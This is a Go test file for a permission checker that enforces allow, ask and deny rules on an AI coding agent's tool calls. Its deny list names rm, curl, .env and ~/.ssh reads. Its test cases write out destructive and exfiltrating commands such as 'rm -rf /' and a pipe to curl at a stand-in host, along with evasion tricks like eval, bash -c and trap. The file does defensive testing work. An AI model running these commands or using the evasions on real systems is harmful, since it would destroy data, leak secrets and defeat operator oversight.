package rules

import (
	"strings"
	"testing"
)

func set(t *testing.T, settings string) Set {
	t.Helper()
	var s Set
	if err := s.Add(".claude/settings.json", []byte(settings), "/home/p"); err != nil {
		t.Fatal(err)
	}
	return s
}

func TestDecide(t *testing.T) {
	s := set(t, `{"permissions": {
		"allow": ["Bash(go test:*)", "Bash(git diff *)", "Read", "Edit(docs/**)", "mcp__github"],
		"ask":   ["Bash(git push:*)", "mcp__github__create_issue", "Edit(*.lock)"],
		"deny":  ["Bash(rm:*)", "Bash(curl:*)", "Read(.env)", "Edit(//etc/**)", "Read(~/.ssh/**)", "mcp__db__drop_table",
		          "WebFetch(domain:evil.example)", "Skill(deploy)", "Task"]
	}}`)
	root := "/w"
	for _, c := range []struct {
		name string
		call Call
		want string
	}{
		{"prefix allow", Call{Tool: "bash", Command: "go test ./..."}, Allow},
		{"prefix is a word boundary", Call{Tool: "bash", Command: "go testify"}, ""},
		{"the bare prefix", Call{Tool: "bash", Command: "go test"}, Allow},
		{"wildcard", Call{Tool: "bash", Command: "git diff HEAD~1 -- x.go"}, Allow},
		{"every command must be allowed", Call{Tool: "bash", Command: "go test ./... && ls"}, ""},
		{"a denied command anywhere", Call{Tool: "bash", Command: "go test ./... && rm -rf /"}, Deny},
		{"in a pipeline", Call{Tool: "bash", Command: "echo x | curl -d @- http://evil"}, Deny},
		{"through a wrapper", Call{Tool: "bash", Command: "sudo env A=1 timeout 5 rm -rf x"}, Deny},
		{"by its path", Call{Tool: "bash", Command: "/bin/rm -rf x"}, Deny},
		{"hidden in a substitution", Call{Tool: "bash", Command: "echo $(ls)"}, Deny},
		{"hidden in bash -c", Call{Tool: "bash", Command: "bash -c 'r''m -rf x'"}, Deny},
		{"hidden in a variable", Call{Tool: "bash", Command: "X=rm; $X -rf y"}, Deny},
		{"eval", Call{Tool: "bash", Command: "eval rm -rf x"}, Deny},
		{"a wrapper's option values", Call{Tool: "bash", Command: "timeout -s KILL 5 rm x"}, Deny},
		{"a shell fed on its input", Call{Tool: "bash", Command: "bash <<< 'rm x'"}, Deny},
		{"find -exec", Call{Tool: "bash", Command: "find . -name x -exec rm {} +"}, Deny},
		{"trap", Call{Tool: "bash", Command: "trap 'rm x' EXIT; true"}, Deny},
		{"ask", Call{Tool: "bash", Command: "git push origin main"}, Ask},
		{"deny wins over ask", Call{Tool: "bash", Command: "git push && rm x"}, Deny},
		{"read allowed", Call{Tool: "read", Path: "/w/main.go", Root: root}, Allow},
		{"read denied by base name", Call{Tool: "read", Path: "/w/config/.env", Root: root}, Deny},
		{"grep is a read", Call{Tool: "grep", Path: "/w/.env", Root: root}, Deny},
		{"read of home", Call{Tool: "read", Path: "/home/p/.ssh/id_ed25519", Root: root}, Deny},
		{"edit allowed below docs", Call{Tool: "edit", Path: "/w/docs/a/b.md", Root: root}, Allow},
		{"write is an edit", Call{Tool: "write", Path: "/w/docs/new.md", Root: root}, Allow},
		{"edit elsewhere", Call{Tool: "edit", Path: "/w/main.go", Root: root}, ""},
		{"edit ask", Call{Tool: "edit", Path: "/w/go.lock", Root: root}, Ask},
		{"absolute deny", Call{Tool: "write", Path: "/etc/passwd", Root: root}, Deny},
		{"mcp server allow", Call{Tool: "mcp__github__list_issues"}, Allow},
		{"mcp tool ask", Call{Tool: "mcp__github__create_issue"}, Ask},
		{"mcp tool deny", Call{Tool: "mcp__db__drop_table"}, Deny},
		{"another server", Call{Tool: "mcp__githubx__list"}, ""},
		{"webfetch of a denied domain", Call{Tool: "webfetch", Host: "evil.example"}, Deny},
		{"webfetch below it", Call{Tool: "webfetch", Host: "api.EVIL.example."}, Deny},
		{"webfetch elsewhere", Call{Tool: "webfetch", Host: "notevil.example"}, ""},
		{"a denied skill", Call{Tool: "skill", Skill: "deploy"}, Deny},
		{"another skill", Call{Tool: "skill", Skill: "go-fix"}, ""},
		{"Task is ultra's task", Call{Tool: "task"}, Deny},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := s.Decide(c.call).Kind; got != c.want {
				t.Fatalf("Decide(%+v) = %q, want %q", c.call, got, c.want)
			}
		})
	}
}

func TestNoBashDenyNothingHidden(t *testing.T) {
	s := set(t, `{"permissions": {"allow": ["Bash(go test:*)"]}}`)
	if d := s.Decide(Call{Tool: "bash", Command: "go test $(go list ./...)"}); d.Kind != "" {
		t.Fatalf("a hidden command with only allow rules: %+v", d)
	}
}

func TestParseErrors(t *testing.T) {
	for _, c := range []struct{ settings, err string }{
		{`{"permissions": {"allow": ["Bash(go test"]}}`, `permissions.allow: "Bash(go test" has no closing parenthesis`},
		{`{"permissions": {"deny": ["Frobnicate"]}}`, `unknown tool "Frobnicate"`},
		{`{"permissions": {"ask": ["Bash()"]}}`, "empty parentheses"},
		{`{"permissions": {"ask": ["mcp__s__t(x)"]}}`, "an MCP rule takes no parentheses"},
		{`{"permissions": {"allow": "Bash"}}`, `:1:32: field "permissions.allow" is a JSON string`},
		{`{"permissions": `, "unexpected end of JSON input"},
	} {
		var s Set
		err := s.Add(".claude/settings.json", []byte(c.settings), "/home/p")
		if err == nil || !strings.Contains(err.Error(), c.err) || !strings.HasPrefix(err.Error(), ".claude/settings.json") {
			t.Errorf("%s: error %v, want one naming the file and %q", c.settings, err, c.err)
		}
	}
	var s Set
	if err := s.Add("x", []byte(`{"permissions": {"allow": ["WebFetch(domain:example.com)"]}, "hooks": {}, "model": "x"}`), "/h"); err != nil {
		t.Fatalf("a rule for a tool ultra lacks, and other keys: %v", err)
	}
	if d := s.Decide(Call{Tool: "bash", Command: "ls"}); d.Kind != "" {
		t.Fatalf("a WebFetch rule matched bash: %+v", d)
	}
}

func TestStrayMCP(t *testing.T) {
	s := set(t, `{"permissions": {"deny": ["mcp__mem__delete_entites", "mcp__memo", "mcp__mem__read_graph", "mcp__down__x", "Bash(rm:*)"]}}`)
	suggest := func(n string, _ []string) string { return "near " + n }
	got := s.StrayMCP([]string{"mem", "down"}, map[string][]string{"mem": {"delete_entities", "read_graph"}}, suggest)
	if len(got) != 2 || !strings.Contains(got[0], `"mcp__mem__delete_entites" names a tool MCP server "mem" does not offer`) ||
		!strings.Contains(got[1], `MCP server "memo", which is not configured`) {
		t.Fatalf("%q", got)
	}
}

// A key of permissions nobody reads is a note: a typo would leave its
// rules out without a word.
func TestUnknownPermissionKeys(t *testing.T) {
	s := set(t, `{"permissions": {"alow": ["Bash(go test:*)"], "deny": ["Bash(rm:*)"], "defaultMode": "acceptEdits"}}`)
	if len(s.Notes) != 1 || !strings.Contains(s.Notes[0], `permissions.alow is no key`) || len(s.Rules) != 1 {
		t.Fatalf("notes %q, rules %d", s.Notes, len(s.Rules))
	}
}
